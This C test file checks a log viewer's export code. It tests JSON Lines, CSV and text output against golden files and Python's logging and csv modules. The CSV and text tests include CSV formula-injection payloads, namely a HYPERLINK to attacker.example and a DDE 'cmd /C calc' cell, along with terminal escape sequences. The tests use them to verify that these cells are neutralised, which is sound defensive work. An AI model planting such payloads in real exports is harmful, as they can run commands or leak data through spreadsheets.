// SPDX-License-Identifier: GPL-3.0-or-later
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>
#include <unistd.h>

#include "export-records.h"
#include "ld-export.h"
#include "ld-store.h"

/* Each export format against golden files for the fixed records of
 * export-records.h; the text export also against what CPython's own
 * logging.Formatter writes for the same records, run now by
 * peers/format_records.py, and the CSV read back by Python's csv module.
 * Set LD_UPDATE_GOLDEN=1 to rewrite the golden files. */

typedef struct
{
  LdExportSnapshot *snapshot;
  char             *dir;
  char             *jsonl;       /* the JSON Lines export, written once */
} Fixture;

static void
remove_tree (const char *dir)
{
  g_autoptr(GDir) handle = g_dir_open (dir, 0, NULL);
  const char *name;

  while (handle != NULL && (name = g_dir_read_name (handle)) != NULL)
    {
      g_autofree char *path = g_build_filename (dir, name, NULL);

      if (g_file_test (path, G_FILE_TEST_IS_DIR))
        remove_tree (path);
      else
        g_unlink (path);
    }
  g_rmdir (dir);
}

static char *
export_file (LdExportSnapshot      *snapshot,
             const char            *dir,
             const char            *name,
             const LdExportOptions *options,
             gsize                 *length)
{
  g_autofree char *path = g_build_filename (dir, name, NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  char *contents = NULL;

  g_assert_true (ld_export_to_file (snapshot, file, options, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, length, &error));
  g_assert_no_error (error);

  return contents;
}

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(LdBatch) batch = export_records_new ();
  g_autoptr(GError) error = NULL;
  LdExportOptions options = { LD_EXPORT_JSONL };

  fixture->dir = g_dir_make_tmp ("logdeck-test-export-XXXXXX", &error);
  g_assert_no_error (error);
  fixture->snapshot = ld_export_snapshot_new ();
  ld_export_snapshot_add_batch (fixture->snapshot, batch);
  fixture->jsonl = export_file (fixture->snapshot, fixture->dir, "records.jsonl", &options,
                                NULL);
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data)
{
  ld_export_snapshot_unref (fixture->snapshot);
  remove_tree (fixture->dir);
  g_free (fixture->dir);
  g_free (fixture->jsonl);
}

static void
assert_golden (const char *name,
               const char *contents,
               gsize       length)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "export-golden", name, NULL);
  g_autofree char *golden = NULL;
  g_autoptr(GError) error = NULL;
  gsize golden_length;

  if (g_strcmp0 (g_getenv ("LD_UPDATE_GOLDEN"), "1") == 0)
    {
      g_assert_true (g_file_set_contents (path, contents, length, &error));
      g_assert_no_error (error);
    }

  g_assert_true (g_file_get_contents (path, &golden, &golden_length, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (contents, ==, golden);
  g_assert_cmpuint (length, ==, golden_length);
}

/* Runs a peer script with Debian's Python; returns its standard output. */
static char *
run_python (const char * const *args,
            const char         *tz,
            gsize              *length)
{
  const char *python = g_getenv ("LD_PYTHON3") != NULL ? g_getenv ("LD_PYTHON3")
                                                       : "/usr/bin/python3";
  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
  g_auto(GStrv) envp = g_environ_setenv (g_get_environ (), "TZ", tz, TRUE);
  g_autoptr(GError) error = NULL;
  g_autofree char *err = NULL;
  char *out = NULL;
  int status;

  g_ptr_array_add (argv, (char *) python);
  for (guint i = 0; args[i] != NULL; i++)
    g_ptr_array_add (argv, (char *) args[i]);
  g_ptr_array_add (argv, NULL);

  g_assert_true (g_spawn_sync (NULL, (char **) argv->pdata, envp, G_SPAWN_DEFAULT, NULL, NULL,
                               &out, &err, &status, &error));
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("%s failed: %s", (char *) argv->pdata[1], err);
  if (length != NULL)
    *length = strlen (out);

  return out;
}

static char *
peer_path (const char *name)
{
  return g_test_build_filename (G_TEST_DIST, "peers", name, NULL);
}

static void
test_jsonl_golden (Fixture       *fixture,
                   gconstpointer  data)
{
  assert_golden ("records.jsonl", fixture->jsonl, strlen (fixture->jsonl));
}

static const char * const csv_extras[] = {
  "user", "status", "latency", "cached", "parent", "tags", "ctx", "big", "huge", "off",
  "missing", "cmd", "term", "minus", "plus", "at", NULL
};

/* Exports the records with every column to @name, and reads the file back
 * with Python's csv module, cell for cell against the JSON Lines export, as
 * check_csv.py expects the cells with or without --raw. */
static char *
export_csv_checked (Fixture    *fixture,
                    const char *name,
                    gboolean    raw,
                    gsize      *length)
{
  LdExportOptions options = { LD_EXPORT_CSV };
  g_autofree char *columns = g_strjoinv (",", (char **) ld_export_get_column_ids ());
  g_autofree char *extra_list = g_strjoinv (",", (char **) csv_extras);
  g_autofree char *jsonl_path = g_build_filename (fixture->dir, "records.jsonl", NULL);
  g_autofree char *csv_path = g_build_filename (fixture->dir, name, NULL);
  g_autofree char *script = peer_path ("check_csv.py");
  g_autofree char *result = NULL, *expected = NULL;
  char *csv;

  options.extra_keys = csv_extras;
  options.csv_raw = options.keep_control_chars = raw;
  csv = export_file (fixture->snapshot, fixture->dir, name, &options, length);

  result = run_python ((const char * const[]) { script, raw ? "--raw" : "--protected", csv_path,
                                                jsonl_path, columns, extra_list, NULL },
                       "UTC", NULL);
  expected = g_strdup_printf ("ok %u\n", ld_export_snapshot_get_n_records (fixture->snapshot));
  g_assert_cmpstr (result, ==, expected);

  return csv;
}

/* By default, what a spreadsheet would run gets a "'" in front, and
 * terminal controls are escaped; numbers stay numbers. */
static void
test_csv (Fixture       *fixture,
          gconstpointer  data)
{
  gsize length;
  g_autofree char *csv = export_csv_checked (fixture, "records.csv", FALSE, &length);

  assert_golden ("records.csv", csv, length);
  g_assert_true (g_str_has_prefix (csv, "time,level,levelno,logger,message,"));
  g_assert_nonnull (strstr (csv, ",peer,protocol,host,service,trace_id,span_id,extra,user,"));

  g_assert_nonnull (strstr (csv, ",app.csv,\"'=HYPERLINK(\"\"http://attacker.example/"));
  g_assert_nonnull (strstr (csv, ",'=cmd|' /C calc'!A0,"));
  g_assert_nonnull (strstr (csv, ",\\x1b]0;owned\\x07\\x1b[2J \\x9b31m red \\x7f,"
                                 "-4,'+1,'@SUM(A1)"));
  g_assert_nonnull (strstr (csv, ",\"\\x1b[31mred\\x1b[0m, a CR\\x0d over it, a tab\t"
                                 "and a CRLF\r\nline two\","));
  g_assert_nonnull (strstr (csv, ",'-worker,"));
  g_assert_null (strchr (csv, '\033'));
}

/* Asked for, cells are written as they are, and Python still reads them. */
static void
test_csv_raw (Fixture       *fixture,
              gconstpointer  data)
{
  g_autofree char *csv = export_csv_checked (fixture, "raw.csv", TRUE, NULL);

  g_assert_nonnull (strstr (csv, ",app.csv,\"=HYPERLINK(\"\"http://attacker.example/"));
  g_assert_nonnull (strstr (csv, ",=cmd|' /C calc'!A0,"));
  g_assert_nonnull (strstr (csv, ",\033]0;owned\007\033[2J \302\233" "31m red \177,"
                                 "-4,+1,@SUM(A1)"));
  g_assert_nonnull (strstr (csv, ",-worker,"));
}

/* The "extra" column is the JSON Lines export's "extra" object, written by
 * the same code, so CSV loses none of the fields. */
static void
test_csv_extra_column (Fixture       *fixture,
                       gconstpointer  data)
{
  static const char * const columns[] = { "message", "extra", NULL };
  LdExportOptions options = { LD_EXPORT_CSV };
  g_autofree char *csv = NULL;
  gsize length;

  options.columns = columns;
  csv = export_file (fixture->snapshot, fixture->dir, "extra.csv", &options, &length);
  g_assert_true (g_str_has_prefix (csv, "message,extra\r\n"
                                        "GET /index 200,\"{\"\"user\"\":\"\"alice\"\","
                                        "\"\"status\"\":200,\"\"latency\"\":0.25,"));
  g_assert_nonnull (strstr (csv, "\r\nbare,\r\n"));
  g_assert_nonnull (strstr (csv, "\"\"huge\"\":\"\"1e400\"\""));
  g_assert_nonnull (strstr (csv, "\"\"term\"\":\"\"\\u001b]0;owned\\u0007"));
}

static void
test_csv_columns (Fixture       *fixture,
                  gconstpointer  data)
{
  static const char * const columns[] = { "message", "level", "line", NULL };
  static const char * const bad[] = { "message", "colour", NULL };
  LdExportOptions options = { LD_EXPORT_CSV };
  g_autoptr(GError) error = NULL;
  g_autofree char *csv = NULL;
  gsize length;

  options.columns = columns;
  csv = export_file (fixture->snapshot, fixture->dir, "some.csv", &options, &length);
  g_assert_true (g_str_has_prefix (csv, "message,level,line\r\nGET /index 200,INFO,42\r\n"));

  options.columns = bad;
  g_assert_false (ld_export_options_check (&options, &error));
  g_assert_error (error, LD_EXPORT_ERROR, LD_EXPORT_ERROR_BAD_COLUMN);
  g_assert_nonnull (strstr (error->message, "colour"));
}

typedef struct
{
  const char *golden;    /* or NULL */
  LdLogStyle  style;
  const char *format;
  const char *datefmt;
  gboolean    utc;
  const char *tz;
  gboolean    keep_control_chars;
} TextCase;

static const TextCase text_cases[] = {
  { "records.txt", LD_LOG_STYLE_PERCENT,
    "%(asctime)s %(name)-12s %(levelname)-8s %(message)s", NULL, FALSE, "UTC" },
  { "records-brace.txt", LD_LOG_STYLE_BRACE,
    "{asctime} {name:<12} {levelname:<8} {message}", NULL, FALSE, "UTC" },
  /* Every attribute, with flags, widths and precisions. */
  { NULL, LD_LOG_STYLE_PERCENT,
    "%(created)f %(created)s %(msecs)03d %(msecs)s %(relativeCreated)10.3f %(relativeCreated)r "
    "%(levelno)+05d %(levelno)-4d| %(levelname).3s|%(levelname)9s|%(name)r %(name)a "
    "%(pathname)s %(filename)s %(module)s %(lineno)d %(lineno)#x %(lineno)#o %(lineno)X "
    "%(funcName)s %(thread)s %(threadName)s %(process)s %(processName)s %(taskName)s "
    "%(created)e %(created).2E %(created)g %(created)#.3G %(relativeCreated)012.1f "
    "%(levelno).3d %(levelno) d %(lineno)5.1f %% "
    "[%(user)s|%(status)s|%(latency)s|%(cached)s|%(parent)s|%(tags)s|%(ctx)s|%(big)s|%(huge)s"
    "|%(tiny)s|%(off)s|%(user)r] %(exc_text).20r %(stack_info).10s %(msg)s %(message)-30.5s|",
    NULL, FALSE, "UTC" },
  /* Padding and its edges, which "%" fields share with msg % args: zeros
   * between sign and digits, left alignment, precisions of digits and of
   * text, characters, and the repr() of floats. */
  { NULL, LD_LOG_STYLE_PERCENT,
    "%(levelname)-5s|%(name)5s|%(created)016.3f|%(relativeCreated)-12.2f|"
    "%(relativeCreated)+.1e|%(created)r|%(relativeCreated)r|%(msecs)-05d|%(msecs)08.3f|"
    "%(levelno)#08x|%(levelno)-#8o|%(levelno)08.3d|%(lineno)+08d|%(lineno)-+6d|%(lineno)5c|"
    "%(lineno)-3c|%(levelno).80d|%(levelname)08s|%(levelname)-8.3r|%(name).0s|%(message)10.4s|"
    "%(relativeCreated) 09.2f|%(relativeCreated)#.0f|%(relativeCreated)-010g",
    NULL, FALSE, "UTC" },
  { NULL, LD_LOG_STYLE_BRACE,
    "{created:.3f} {msecs:03.0f} {relativeCreated:>14,.2f} {levelno:#x} {levelno:08b} "
    "{levelno:^7d} {levelno:+} {lineno:_d} {levelname!r:>10} {name!s:*^20} {message:.5} "
    "{created:e} {created:.4} {created:.12} {created} {msecs} {msecs:%} {relativeCreated:_.1f} "
    "{levelno:=+6} {created:.0f} {lineno:o} {lineno:#X} {thread} {thread!r} "
    "{process!s:>10} {funcName!a} {user!r:.4} {status} {latency:.3} {cached} {parent!s:>6} "
    "{tags} {levelname:\u2014^11} {message!a}",
    NULL, FALSE, "UTC" },
  { NULL, LD_LOG_STYLE_DOLLAR, "$asctime ${levelname}|$name: $message $$ ${user}", NULL, FALSE,
    "UTC" },
  { NULL, LD_LOG_STYLE_PERCENT, "%(asctime)s|%(levelname)s|%(message)s",
    "%d/%b/%Y:%H:%M:%S %z %Z %a %A %B %j %p %I %y %%", FALSE, "America/New_York" },
  { NULL, LD_LOG_STYLE_AUTO, "%(asctime)s %(message)s", NULL, FALSE, "Europe/Berlin" },
  { NULL, LD_LOG_STYLE_AUTO, "{asctime} {message}", "%H:%M:%S %Z", TRUE, "Europe/Berlin" },
  { NULL, LD_LOG_STYLE_PERCENT, "%(levelname)s:%(name)s:%(message)s [%(term)s]", NULL, FALSE,
    "UTC", TRUE },
};

static void
set_tz (const char *tz)
{
  g_setenv ("TZ", tz, TRUE);
  tzset ();
}

static void
test_text (Fixture       *fixture,
           gconstpointer  data)
{
  const TextCase *test = data;
  static const char styles[] = { '%', '%', '{', '$' };
  LdExportOptions options = { LD_EXPORT_TEXT };
  g_autofree char *text = NULL, *expected = NULL, *jsonl_path = NULL, *script = NULL;
  g_autoptr(GPtrArray) args = NULL;
  char style[2] = { styles[test->style], 0 };
  gsize length, expected_length;

  if (test->style == LD_LOG_STYLE_AUTO)
    style[0] = strstr (test->format, "%(") != NULL ? '%' : '{';
  set_tz (test->tz);
  options.log_format = test->format;
  options.style = test->style;
  options.datefmt = test->datefmt;
  options.utc = test->utc;
  options.keep_control_chars = test->keep_control_chars;
  text = export_file (fixture->snapshot, fixture->dir, "records.txt", &options, &length);

  jsonl_path = g_build_filename (fixture->dir, "records.jsonl", NULL);
  script = peer_path ("format_records.py");
  args = g_ptr_array_new ();
  g_ptr_array_add (args, script);
  g_ptr_array_add (args, jsonl_path);
  g_ptr_array_add (args, style);
  g_ptr_array_add (args, (char *) test->format);
  g_ptr_array_add (args, (char *) (test->datefmt != NULL ? test->datefmt : ""));
  if (test->utc)
    g_ptr_array_add (args, "--utc");
  if (test->keep_control_chars)
    g_ptr_array_add (args, "--keep-control-chars");
  g_ptr_array_add (args, NULL);
  expected = run_python ((const char * const *) args->pdata, test->tz, &expected_length);
  g_assert_cmpstr (text, ==, expected);
  g_assert_cmpuint (length, ==, expected_length);

  if (test->golden != NULL)
    assert_golden (test->golden, text, length);
  set_tz ("UTC");
}

/* Terminal controls are escaped, while a traceback keeps its lines and a
 * CRLF stays; asked for, the text is written as it is. */
static void
test_text_controls (Fixture       *fixture,
                    gconstpointer  data)
{
  LdExportOptions options = { LD_EXPORT_TEXT };
  g_autofree char *text = NULL, *raw = NULL;

  options.log_format = "%(message)s";
  text = export_file (fixture->snapshot, fixture->dir, "controls.txt", &options, NULL);
  g_assert_nonnull (strstr (text, "\n\\x1b[31mred\\x1b[0m, a CR\\x0d over it, a tab\tand a CRLF\r\n"
                                  "line two\nTraceback (most recent call last):\n  File "));
  g_assert_null (strchr (text, '\033'));
  g_assert_null (strchr (text, '\001'));
  g_assert_null (strstr (text, "\302\233"));

  options.keep_control_chars = TRUE;
  raw = export_file (fixture->snapshot, fixture->dir, "raw.txt", &options, NULL);
  g_assert_nonnull (strstr (raw, "\n\033[31mred\033[0m, a CR\r over it, a tab\tand a CRLF\r\n"
                                 "line two\nTraceback (most recent call last):\n  File "));
}

static void
test_internal (void)
{
  static const struct { const char *logger; gboolean internal; } cases[] = {
    { "logdeck", TRUE }, { "logdeck.ingest", TRUE }, { "logdeck.import", TRUE },
    { "logdeck.ui.window", TRUE }, { "logdeckx", FALSE }, { "logdeck-app", FALSE },
    { "app.logdeck", FALSE }, { "", FALSE }, { NULL, FALSE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(LdBatch) batch = ld_batch_new ();
      LdRecordFields fields = { .level = LD_LEVEL_WARNING, .logger = cases[i].logger };
      LdRecord record;

      ld_batch_add (batch, &fields);
      record = export_batch_record (batch, 0);
      g_test_message ("%s", cases[i].logger);
      g_assert_cmpint (ld_export_record_is_internal (&record), ==, cases[i].internal);
    }
}

/* A sender that names its logger "logdeck.x" keeps its records: they carry
 * its own process id, Logdeck's records none or Logdeck's. */
static void
test_internal_sender (void)
{
  static const struct { gint64 process; gboolean internal; } cases[] = {
    { 0, TRUE }, { -1, TRUE }, { 1, FALSE },   /* -1: Logdeck's own process */
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(LdBatch) batch = ld_batch_new ();
      LdRecordFields fields = { .level = LD_LEVEL_WARNING, .logger = "logdeck.x",
                                .process = cases[i].process < 0 ? getpid () : cases[i].process };
      LdRecord record;

      ld_batch_add (batch, &fields);
      record = export_batch_record (batch, 0);
      g_assert_cmpint (ld_export_record_is_internal (&record), ==, cases[i].internal);
    }
}

static void
test_text_bad_formats (void)
{
  static const struct { LdLogStyle style; const char *format; } bad[] = {
    { LD_LOG_STYLE_PERCENT, "%(message)" },
    { LD_LOG_STYLE_PERCENT, "%s %(message)s" },
    { LD_LOG_STYLE_PERCENT, "%(message" },
    { LD_LOG_STYLE_PERCENT, "%(message)*s" },
    { LD_LOG_STYLE_PERCENT, "%(name)d" },
    { LD_LOG_STYLE_PERCENT, "%(created)x" },
    { LD_LOG_STYLE_PERCENT, "100%" },
    { LD_LOG_STYLE_BRACE, "{message" },
    { LD_LOG_STYLE_BRACE, "message}" },
    { LD_LOG_STYLE_BRACE, "{0}" },
    { LD_LOG_STYLE_BRACE, "{}" },
    { LD_LOG_STYLE_BRACE, "{args[0]}" },
    { LD_LOG_STYLE_BRACE, "{message!x}" },
    { LD_LOG_STYLE_BRACE, "{message:{width}}" },
    { LD_LOG_STYLE_BRACE, "{message:d}" },
    { LD_LOG_STYLE_BRACE, "{levelno:s}" },
    { LD_LOG_STYLE_BRACE, "{levelno:5.q}" },
    { LD_LOG_STYLE_BRACE, "{created:z.0f}" },
    { LD_LOG_STYLE_DOLLAR, "$ message" },
    { LD_LOG_STYLE_DOLLAR, "${message" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(LdLogFormat) format = ld_log_format_new (bad[i].format, bad[i].style, NULL,
                                                         FALSE, &error);

      g_test_message ("%s", bad[i].format);
      g_assert_null (format);
      g_assert_error (error, LD_EXPORT_ERROR, LD_EXPORT_ERROR_BAD_FORMAT);
      g_assert_nonnull (strstr (error->message, bad[i].format));
    }
}

static void
test_text_fields (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(LdLogFormat) format = NULL;
  const char *literal;
  gsize literal_len;
  int width;

  format = ld_log_format_new ("[%(asctime)s] %(levelname)-8s in %(module)s: %(message)s!",
                              LD_LOG_STYLE_AUTO, NULL, FALSE, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (ld_log_format_get_n_fields (format), ==, 4);
  g_assert_cmpstr (ld_log_format_get_field (format, 0, &literal, &literal_len, &width), ==,
                   "asctime");
  g_assert_cmpmem (literal, literal_len, "[", 1);
  g_assert_cmpstr (ld_log_format_get_field (format, 1, &literal, &literal_len, &width), ==,
                   "levelname");
  g_assert_cmpmem (literal, literal_len, "] ", 2);
  g_assert_cmpint (width, ==, -8);
  g_assert_cmpstr (ld_log_format_get_field (format, 2, &literal, &literal_len, NULL), ==,
                   "module");
  g_assert_cmpmem (literal, literal_len, " in ", 4);
  g_assert_null (ld_log_format_get_field (format, 4, &literal, &literal_len, NULL));
  g_assert_cmpmem (literal, literal_len, "!", 1);
}

/* The snapshot is a copy: the store may clear and refill meanwhile. */
static void
test_snapshot_from_store (Fixture       *fixture,
                          gconstpointer  data)
{
  g_autoptr(LdStore) store = ld_store_new (5);
  g_autoptr(LdBatch) batch = export_records_new ();
  g_autoptr(LdBatch) again = export_records_new ();
  g_autoptr(LdExportSnapshot) snapshot = NULL;
  static const guint positions[] = { 4, 0, 2 };

  ld_store_append_batch (store, batch);
  g_assert_cmpuint (ld_store_get_n_records (store), ==, 5);
  snapshot = ld_export_snapshot_new_from_store (store, positions, G_N_ELEMENTS (positions));
  ld_store_clear (store);
  ld_store_append_batch (store, again);
  ld_store_clear (store);

  g_assert_cmpuint (ld_export_snapshot_get_n_records (snapshot), ==, 3);
  for (guint i = 0; i < G_N_ELEMENTS (positions); i++)
    {
      /* The store kept the last five. */
      guint first = ld_batch_get_length (batch) - 5;
      LdRecord expected = export_batch_record (batch, first + positions[i]);

      assert_records_equal (ld_export_snapshot_get_record (snapshot, i), &expected);
    }
}

static guint
count_files (const char *dir)
{
  g_autoptr(GDir) handle = g_dir_open (dir, 0, NULL);
  guint n = 0;

  while (handle != NULL && g_dir_read_name (handle) != NULL)
    n++;

  return n;
}

static void
assert_export_fails (LdExportSnapshot *snapshot,
                     const char       *path,
                     GQuark            domain,
                     int               code)
{
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  LdExportOptions options = { LD_EXPORT_JSONL };

  g_assert_false (ld_export_to_file (snapshot, file, &options, NULL, &error));
  g_assert_nonnull (error);
  g_assert_true (error->domain == domain && (code < 0 || error->code == code));
  g_test_message ("%s", error->message);
  g_assert_true (g_str_has_prefix (error->message, "Could not export to “"));
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
}

/* Tests may run as root, for whom a read-only directory is writable: these
 * paths fail for everyone. */
static void
test_atomic_failure (Fixture       *fixture,
                     gconstpointer  data)
{
  g_autofree char *not_dir = g_build_filename (fixture->dir, "plain-file", NULL);
  g_autofree char *under = g_build_filename (not_dir, "out.jsonl", NULL);
  g_autofree char *missing = g_build_filename (fixture->dir, "no", "such", "out.jsonl", NULL);
  g_autofree char *is_dir = g_build_filename (fixture->dir, "a-folder", NULL);
  g_autoptr(GError) error = NULL;
  guint n_files;

  g_assert_true (g_file_set_contents (not_dir, "x", 1, &error));
  g_assert_cmpint (g_mkdir (is_dir, 0755), ==, 0);
  n_files = count_files (fixture->dir);

  assert_export_fails (fixture->snapshot, under, G_IO_ERROR, G_IO_ERROR_NOT_DIRECTORY);
  assert_export_fails (fixture->snapshot, missing, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  assert_export_fails (fixture->snapshot, "/proc/logdeck-export.jsonl", G_IO_ERROR, -1);
  g_assert_cmpuint (count_files (fixture->dir), ==, n_files);

  /* Renaming onto a folder fails after the whole file was written. */
  {
    g_autoptr(GFile) file = g_file_new_for_path (is_dir);
    LdExportOptions options = { LD_EXPORT_JSONL };

    g_assert_false (ld_export_to_file (fixture->snapshot, file, &options, NULL, &error));
    g_assert_nonnull (error);
    g_test_message ("%s", error->message);
    g_assert_true (g_file_test (is_dir, G_FILE_TEST_IS_DIR));
    g_assert_cmpuint (count_files (fixture->dir), ==, n_files);
  }
}

static void
test_disk_full (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(GFile) full = g_file_new_for_path ("/dev/full");
  g_autoptr(GFileOutputStream) stream = NULL;
  g_autoptr(GError) error = NULL;
  LdExportOptions options = { LD_EXPORT_JSONL };

  stream = g_file_append_to (full, G_FILE_CREATE_NONE, NULL, &error);
  if (stream == NULL)
    {
      g_test_skip ("/dev/full cannot be opened");
      return;
    }

  g_assert_false (ld_export_to_stream (fixture->snapshot, G_OUTPUT_STREAM (stream), &options,
                                       NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
}

static void
on_export_done (GObject      *source,
                GAsyncResult *result,
                gpointer      user_data)
{
  GError **error = user_data;

  if (ld_export_finish (result, error))
    *error = g_error_new_literal (G_IO_ERROR, 0, "done");
}

static LdExportSnapshot *
make_big_snapshot (guint n)
{
  LdExportSnapshot *snapshot = ld_export_snapshot_new ();
  g_autoptr(LdBatch) batch = export_records_new ();

  for (guint i = 0; i < n; i++)
    {
      LdRecord record = export_batch_record (batch, i % ld_batch_get_length (batch));

      ld_export_snapshot_add_record (snapshot, &record, NULL);
    }

  return snapshot;
}

/* Cancelled half way: no file, and an old file of that name as it was. */
static void
test_cancel (Fixture       *fixture,
             gconstpointer  data)
{
  g_autoptr(LdExportSnapshot) snapshot = make_big_snapshot (400000);
  g_autofree char *path = g_build_filename (fixture->dir, "big.txt", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *old = NULL;
  LdExportOptions options = { LD_EXPORT_TEXT };
  guint n_files;

  g_assert_true (g_file_set_contents (path, "old contents\n", -1, NULL));
  n_files = count_files (fixture->dir);
  ld_export_async (snapshot, file, &options, cancellable, on_export_done, &error);
  while (ld_export_snapshot_get_n_written (snapshot) == 0)
    g_usleep (100);
  g_cancellable_cancel (cancellable);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);

  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_cmpuint (ld_export_snapshot_get_n_written (snapshot), <, 400000);
  g_assert_true (g_file_get_contents (path, &old, NULL, NULL));
  g_assert_cmpstr (old, ==, "old contents\n");
  g_assert_cmpuint (count_files (fixture->dir), ==, n_files);
}

static void
test_async (Fixture       *fixture,
            gconstpointer  data)
{
  g_autoptr(LdExportSnapshot) snapshot = make_big_snapshot (50000);
  g_autofree char *path = g_build_filename (fixture->dir, "big.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  LdExportOptions options = { LD_EXPORT_CSV };
  gsize length;
  guint lines = 0;

  ld_export_async (snapshot, file, &options, NULL, on_export_done, &error);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);

  g_assert_cmpstr (error->message, ==, "done");
  g_assert_cmpuint (ld_export_snapshot_get_n_written (snapshot), ==, 50000);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  for (gsize i = 0; i < length; i++)
    lines += contents[i] == '\n';
  g_assert_cmpuint (lines, >, 50000);
}

int
main (int   argc,
      char *argv[])
{
  set_tz ("UTC");
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/export/jsonl/golden", Fixture, NULL, fixture_set_up, test_jsonl_golden,
              fixture_tear_down);
  g_test_add ("/export/csv/python", Fixture, NULL, fixture_set_up, test_csv, fixture_tear_down);
  g_test_add ("/export/csv/columns", Fixture, NULL, fixture_set_up, test_csv_columns,
              fixture_tear_down);
  g_test_add ("/export/csv/raw", Fixture, NULL, fixture_set_up, test_csv_raw, fixture_tear_down);
  g_test_add ("/export/csv/extra-column", Fixture, NULL, fixture_set_up, test_csv_extra_column,
              fixture_tear_down);
  for (guint i = 0; i < G_N_ELEMENTS (text_cases); i++)
    {
      g_autofree char *name = g_strdup_printf ("/export/text/python/%u", i);

      g_test_add (name, Fixture, &text_cases[i], fixture_set_up, test_text, fixture_tear_down);
    }
  g_test_add ("/export/text/controls", Fixture, NULL, fixture_set_up, test_text_controls,
              fixture_tear_down);
  g_test_add_func ("/export/text/bad-formats", test_text_bad_formats);
  g_test_add_func ("/export/internal", test_internal);
  g_test_add_func ("/export/internal-sender", test_internal_sender);
  g_test_add_func ("/export/text/fields", test_text_fields);
  g_test_add ("/export/snapshot/store", Fixture, NULL, fixture_set_up, test_snapshot_from_store,
              fixture_tear_down);
  g_test_add ("/export/atomic/failure", Fixture, NULL, fixture_set_up, test_atomic_failure,
              fixture_tear_down);
  g_test_add ("/export/disk-full", Fixture, NULL, fixture_set_up, test_disk_full,
              fixture_tear_down);
  g_test_add ("/export/cancel", Fixture, NULL, fixture_set_up, test_cancel, fixture_tear_down);
  g_test_add ("/export/async", Fixture, NULL, fixture_set_up, test_async, fixture_tear_down);

  return g_test_run ();
}
